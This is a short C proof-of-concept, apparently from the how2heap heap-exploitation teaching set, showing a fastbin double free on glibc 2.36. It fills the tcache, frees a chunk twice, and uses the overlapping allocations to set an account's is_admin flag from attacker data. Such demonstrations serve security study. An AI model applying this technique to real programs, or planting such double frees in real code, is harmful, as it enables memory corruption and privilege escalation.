/* Fastbin dup: a double free with an intervening free, the tcache filled first.
 * Published: shellphish/how2heap, glibc_2.36/fastbin_dup.c.
 * Primitive: double free. The fastbin holds a -> b -> a, so two later callocs return the same
 * chunk: an attacker's message and a privileged object overlap. */
#include <string.h>
#include "common.h"

struct account { char name[4]; int is_admin; };

int main(void) {
    test_init();
    printf("fastbin dup: free(a), free(b), free(a); two callocs return the same chunk\n");
    void *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(8);
    for (int i = 0; i < 7; i++)
        free(fill[i]); /* the 0x20 tcache bin is full: later frees go to the fastbin */
    int *a = calloc(1, 8), *b = calloc(1, 8), *c = calloc(1, 8);
    print_ptr("victim", a);
    free(a);
    free(b);
    free(a); /* BUG: double free (not at the top of the fastbin, so glibc does not see it) */
    struct account *acct = calloc(1, sizeof *acct);
    strcpy(acct->name, "bob");
    void *other = calloc(1, 8);
    char *msg = calloc(1, 8); /* the attacker's message */
    memcpy(msg, "evil\1\0\0\0", 8);
    if (acct->is_admin == 1)
        printf("ATTACK SUCCEEDED: is_admin=1 (account and message share a chunk)\n");
    else
        printf("attack failed: is_admin=%d (%p %p)\n", acct->is_admin, other, (void *)c);
    return 0;
}
